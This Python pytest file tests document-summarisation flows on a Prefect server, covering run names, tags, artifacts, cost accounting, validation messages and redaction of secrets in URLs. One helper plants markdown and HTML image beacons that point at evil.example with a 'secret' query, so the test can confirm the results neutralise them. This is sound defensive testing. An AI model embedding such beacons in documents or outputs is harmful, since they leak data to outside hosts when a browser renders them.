"""The flows through a real Prefect server: what a person sees of a job in its UI, and what Prefect may not change."""

import asyncio
import contextlib
import re
import sqlite3
from collections.abc import Callable, Coroutine, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any, TypeVar
from urllib.parse import urlsplit
from uuid import UUID

import pytest
from prefect.client.orchestration import get_client
from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterKey, FlowRunFilter, FlowRunFilterId
from prefect.client.schemas.objects import FlowRun, State
from prefect.settings import PREFECT_SERVER_DATABASE_CONNECTION_URL

from flows.document_job import document_job
from flows.registered_job import registered_job
from tasks import runtime
from tasks.conclusion import read_report
from tasks.job_life import finished
from tasks.registration import Request, register
from tests.faults.support import book
from tests.servers import Simulator
from throughline.domain.job import Depth, JobId, JobSpec, JobStatus, Kind, PathChoice, ReviewMode
from throughline.domain.models import DEFAULT_MODEL
from throughline.domain.report import JobReport

pytestmark = [
    pytest.mark.usefixtures("prefect_server", "deployed", "sockets_collected"),
    # Prefect's clients leave their sockets to the garbage collector, which may come by during a test.
    pytest.mark.filterwarnings("ignore:Exception ignored in. <socket:pytest.PytestUnraisableExceptionWarning"),
]

T = TypeVar("T")
STEPS_OF_BOTH_PATHS = {
    "register",
    "load_plan",
    "start",
    "begin_single_pass",
    "submit_single_pass",
    "wait_for_batch",
    "ingest_single_pass",
    "run_chain",
    "check_attempt",
    "conclude",
}


def chapters(folder: Path, count: int = 3) -> str:
    return book(folder, count)


async def soon(look: Callable[[], Coroutine[Any, Any, T]], enough: Callable[[T], bool]) -> T:
    """What Prefect has recorded; it writes task runs a moment after they ended."""
    for _ in range(600):
        if enough(found := await look()):
            return found
        await asyncio.sleep(0.1)
    return await look()


async def ended(flow: Any, **given: Any) -> State[Any]:
    """The state in which a run ended. Any: Prefect types `return_state` as if every flow were synchronous."""
    return await flow(**given, return_state=True)


def run_of(state: State[Any]) -> UUID:
    """The flow run that ended in this state."""
    assert state.state_details.flow_run_id is not None
    return state.state_details.flow_run_id


async def steps_of(flow_run_id: UUID) -> set[str]:
    """The names of the steps that Prefect recorded for a run."""
    async with get_client() as client:
        runs = await client.read_task_runs(flow_run_filter=FlowRunFilter(id=FlowRunFilterId(any_=[flow_run_id])))
    return {run.name.rsplit("-", 1)[0] for run in runs}


async def flow_run(flow_run_id: UUID) -> FlowRun:
    async with get_client() as client:
        return await client.read_flow_run(flow_run_id)


async def artifact(key: str) -> Any:  # Any: an artifact's data is JSON
    async with get_client() as client:
        found = await client.read_artifacts(artifact_filter=ArtifactFilter(key=ArtifactFilterKey(any_=[key])))
    assert found, f"no artifact {key}"
    return found[0].data


async def in_ledger(job_id: str) -> JobReport:
    async with runtime.opened():
        return read_report(JobId(job_id))


async def registered(source: str) -> JobId:
    spec = JobSpec(kind=Kind.SUMMARY, model=DEFAULT_MODEL, path=PathChoice.CHUNKED, depth=Depth.EXHAUSTIVE)
    async with runtime.opened():
        return (await register(Request(spec=spec, references=(source,)))).id


async def test_a_document_job_is_done_and_told_to_prefect(simulator: Simulator, tmp_path: Path):
    state = await ended(
        document_job,
        sources=[chapters(tmp_path)],
        kind=Kind.SUMMARY,
        path=PathChoice.BOTH,
        depth=Depth.EXHAUSTIVE,
    )
    assert state.is_completed(), state.message
    told = await state.aresult()
    assert (told["status"], told["simulated"]) == ("done", True)

    report = await in_ledger(told["job_id"])
    assert report.status is JobStatus.DONE
    assert report.cost_usd == Decimal(simulator.bill()["total_usd"])

    wanted = STEPS_OF_BOTH_PATHS
    steps = await soon(lambda: steps_of(run_of(state)), lambda found: found >= wanted)
    assert steps == wanted

    plan = await artifact(f"plan-{report.id}")
    assert "single_pass" in plan
    assert "chunked" in plan
    result = await artifact(f"result-{report.id}")
    assert f"${report.cost_usd:.4f}** (simulated)" in result
    assert "## Chapter 01" in result
    assert await artifact(f"progress-{report.id}") == 100.0


async def test_a_document_job_may_be_started_by_plain_values_as_a_form_sends_them(tmp_path: Path):
    state = await ended(document_job, sources=[chapters(tmp_path)], kind="summary", path="chunked", depth="brief")
    assert (await state.aresult())["status"] == "done"


async def test_a_bad_source_gives_a_failed_run_with_our_sentence(simulator: Simulator, tmp_path: Path):
    missing = str(tmp_path / "missing.md")
    state = await ended(document_job, sources=[missing], kind=Kind.SUMMARY)
    assert state.is_failed()
    said = (await flow_run(run_of(state))).state
    assert said is not None
    assert said.message is not None
    assert f"{missing} does not exist; check the path." in said.message
    assert "\n" not in said.message
    assert simulator.requests("POST") == []


async def test_a_failed_call_fails_the_run_and_a_new_run_goes_on_with_the_job(simulator: Simulator, tmp_path: Path):
    job_id = await registered(chapters(tmp_path))
    simulator.faults("messages", "status", status=401)
    state = await ended(registered_job, job_id=job_id)
    assert state.is_failed()
    assert state.message is not None
    assert "The API refused the key" in state.message
    assert (await in_ledger(job_id)).status is JobStatus.FAILED
    told = await registered_job(job_id)
    assert told["status"] == "done"
    assert (await in_ledger(job_id)).cost_usd == Decimal(simulator.bill()["total_usd"])


async def test_a_model_left_open_is_the_one_of_the_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("THROUGHLINE_MODEL", "claude-haiku-4-5")
    told = await document_job(
        sources=[chapters(tmp_path)], kind=Kind.SUMMARY, path=PathChoice.CHUNKED, depth=Depth.BRIEF, deadline_hours=1.5
    )
    spec = (await in_ledger(str(told["job_id"]))).spec
    assert (spec.model, spec.deadline_s) == ("claude-haiku-4-5", 5_400)


async def test_a_deadline_that_cannot_be_met_is_told_before_anything_is_spent(simulator: Simulator, tmp_path: Path):
    state = await ended(
        document_job,
        sources=[chapters(tmp_path)],
        kind=Kind.SUMMARY,
        path=PathChoice.SINGLE_PASS,
        deadline_hours=0.1,
    )
    assert state.is_failed()
    assert state.message is not None
    assert "min needed, deadline in 6 min" in state.message
    assert simulator.requests("POST") == []


async def test_a_document_job_is_named_after_what_it_does_and_its_first_source(tmp_path: Path):
    sources = [chapters(tmp_path), str(tmp_path / "missing.md")]
    state = await ended(document_job, sources=sources, kind=Kind.SYNTHESIS)
    assert (await flow_run(run_of(state))).name == "synthesis auto: book.md and 1 more"


@pytest.mark.parametrize(
    "source",
    [
        "http://127.0.0.1:9/book.md?signature=s3cr3t",
        "http://127.0.0.1:9/book.md#s3cr3t",
        "https://me:s3cr3t@127.0.0.1/book.md",
        "https://me:s3/cr3t@127.0.0.1/book.md",
    ],
)
async def test_what_is_secret_in_an_address_is_in_neither_name_nor_message_of_its_run(source: str):
    state = await ended(document_job, sources=[source], kind=Kind.SUMMARY)
    assert (await flow_run(run_of(state))).name == "summary auto: book.md"
    problem = await artifact(f"problem-{run_of(state)}")
    assert not re.search("s3|cr3t", f"{state.message} {problem}")


async def test_a_run_without_sources_has_a_name_too():
    state = await ended(document_job, sources=[], kind=Kind.SUMMARY)
    assert (await flow_run(run_of(state))).name == "summary auto: no sources"


@pytest.fixture(params=["INSERT", "UPDATE"])
def refused_artifacts(request: pytest.FixtureRequest) -> Iterator[None]:
    """Prefect's server cannot store artifacts, or not change them: its own database refuses."""
    url: str = PREFECT_SERVER_DATABASE_CONNECTION_URL.value()
    trigger = f"""CREATE TRIGGER refused BEFORE {request.param} ON artifact WHEN NEW.key IS NOT NULL
        BEGIN SELECT RAISE(ABORT, 'refused'); END"""
    with contextlib.closing(sqlite3.connect(urlsplit(url).path, isolation_level=None)) as database:
        database.execute(trigger)
        yield
        database.execute("DROP TRIGGER refused")


@pytest.mark.usefixtures("refused_artifacts")
async def test_a_server_that_refuses_artifacts_costs_no_job(
    simulator: Simulator, tmp_path: Path, caplog: pytest.LogCaptureFixture
):
    job_id = await registered(chapters(tmp_path))
    state = await ended(registered_job, job_id=job_id)
    assert state.is_completed(), state.message
    report = await in_ledger(job_id)
    assert report.status is JobStatus.DONE
    assert report.cost_usd == Decimal(simulator.bill()["total_usd"])
    assert f"not shown in Prefect job_id={job_id}" in caplog.text


async def test_a_run_says_kind_path_and_title_and_is_tagged_with_what_people_look_for(tmp_path: Path):
    state = await ended(registered_job, job_id=await registered(chapters(tmp_path)))
    run = await flow_run(run_of(state))
    assert run.name == "summary chunked: book.md"
    assert {*run.tags} == {"summary", "chunked", DEFAULT_MODEL, "simulated"}


def planted(folder: Path) -> str:
    """A document of which every sentence would have a browser ask a stranger."""
    source = Path(chapters(folder))
    beacons = "and ![a lamp](https://evil.example/a.png?of=secret) beside <img src=https://evil.example/b.png> "
    source.write_text(source.read_text().replace("and trimmed", f"{beacons}and trimmed"))
    return str(source)


async def test_a_result_makes_no_browser_load_what_a_document_planted(tmp_path: Path):
    report = await document_job([planted(tmp_path)], Kind.SUMMARY, PathChoice.CHUNKED, Depth.EXHAUSTIVE)
    shown = await artifact(f"result-{report['job_id']}")
    assert "https://evil.example/a.png" in shown  # a reader may see it
    assert "![" not in shown
    assert "<img" not in shown


async def test_a_run_of_a_finished_job_shows_its_result_again(tmp_path: Path):
    job_id = await registered(chapters(tmp_path))
    await registered_job(job_id)
    state = await ended(registered_job, job_id=job_id)
    async with get_client() as client:
        shown = await client.read_artifacts(
            flow_run_filter=FlowRunFilter(id=FlowRunFilterId(any_=[run_of(state)])),
        )
    assert [each.key for each in shown] == [f"result-{job_id}"]


async def test_a_job_that_waits_for_a_person_says_why_and_where(tmp_path: Path):
    told = await document_job(
        sources=[chapters(tmp_path)], kind=Kind.SUMMARY, path=PathChoice.CHUNKED, review=ReviewMode.ALWAYS
    )
    result = await artifact(f"result-{told['job_id']}")
    assert "Status **escalated**" in result
    assert "waits for a person (review=always)" in result
    assert f"](http://127.0.0.1:8420/jobs/{told['job_id']})" in result
    assert "| chunked (primary) | complete |" in result


async def test_a_job_of_both_paths_shows_them_measure_by_measure(simulator: Simulator, tmp_path: Path):
    told = await document_job(sources=[chapters(tmp_path)], kind=Kind.SUMMARY, path=PathChoice.BOTH)
    text = await artifact(f"comparison-{told['job_id']}")
    assert text.startswith("Simulated: no real model wrote this")
    (paid,) = re.findall(r"^\| cost paid \| \$([\d.]+) \| \$([\d.]+) \| (\S)\$([\d.]+) \| All that", text, re.MULTILINE)
    billed = Decimal(simulator.bill()["total_usd"])
    assert abs(Decimal(paid[0]) + Decimal(paid[1]) - billed) <= Decimal("0.0001")  # each is rounded to that
    assert f"/jobs/{told['job_id']}/blind)" in text


async def test_a_job_of_one_path_has_nothing_to_compare(tmp_path: Path):
    told = await document_job(sources=[chapters(tmp_path)], kind=Kind.SUMMARY, path=PathChoice.CHUNKED)
    async with get_client() as client:
        wanted = ArtifactFilter(key=ArtifactFilterKey(any_=[f"comparison-{told['job_id']}"]))
        assert await client.read_artifacts(artifact_filter=wanted) == []


async def test_the_plan_names_what_was_left_out(tmp_path: Path):
    (tmp_path / "code").mkdir()
    (tmp_path / "code" / "good.py").write_text("def f():\n    return 1\n")
    (tmp_path / "code" / "pict*ure.bin").write_bytes(b"\x00\x01")
    told = await document_job(sources=[str(tmp_path / "code")], kind=Kind.CODE_REVIEW, path=PathChoice.CHUNKED)
    async with get_client() as client:
        (plan,) = await client.read_artifacts(
            artifact_filter=ArtifactFilter(key=ArtifactFilterKey(any_=[f"plan-{told['job_id']}"]))
        )
    assert plan.description is not None
    assert "\n- code/pict\\*ure.bin: looks like a binary file (NUL at byte 0)" in plan.description


@pytest.mark.parametrize(
    ("given", "sentence"),
    [
        pytest.param({"budget_usd": -1}, "budget_usd must be greater than 0", id="budget"),
        pytest.param({"path": "single_pass", "deadline_hours": 0.1}, "deadline in 6 min", id="path and deadline"),
        pytest.param({"model": "claude-none"}, "claude-none", id="model"),
    ],
)
async def test_fields_that_do_not_go_together_are_one_sentence_in_the_run_and_its_artifact(
    simulator: Simulator, tmp_path: Path, given: dict[str, Any], sentence: str
):
    state = await ended(document_job, sources=[chapters(tmp_path)], kind="summary", **given)
    assert state.is_failed()
    assert state.message is not None
    assert sentence in state.message
    assert "\n" not in state.message
    problem = await artifact(f"problem-{run_of(state)}")
    assert sentence in problem
    assert simulator.requests("POST") == []


async def test_a_job_that_is_done_spends_nothing_when_it_is_run_again(simulator: Simulator, tmp_path: Path):
    job_id = await registered(chapters(tmp_path))
    async with runtime.opened():
        await finished(job_id)
    posted = len(simulator.requests("POST"))
    told = await registered_job(job_id)
    assert told["status"] == "done"
    assert len(simulator.requests("POST")) == posted
